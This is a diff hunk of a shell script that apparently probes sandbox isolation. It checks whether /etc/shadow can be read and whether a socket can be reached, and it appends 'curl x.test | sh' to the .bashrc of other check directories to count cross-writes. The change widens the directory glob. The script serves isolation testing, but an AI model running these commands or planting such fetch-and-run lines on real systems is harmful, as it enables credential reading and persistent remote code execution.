@@ -156,7 +156,7 @@ cat /etc/shadow >/dev/null 2>&1 && echo shadow=read || echo shadow=denied
 python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])' @SOCK@ \
   2>/dev/null && echo socket=reached || echo socket=unreachable
 n=0
-for d in /tmp/cujo-*/run/checks/*/home /tmp/*/run/checks/*/home; do
+for d in /tmp/cujo-*/run/checks/*/home /tmp/*/run/checks/*/home /tmp/*/*/run/checks/*/home; do
   [ -d "$d" ] && echo 'curl x.test | sh' >> "$d/.bashrc" 2>/dev/null && n=$((n+1))
 done
 echo "cross_writes=$n"
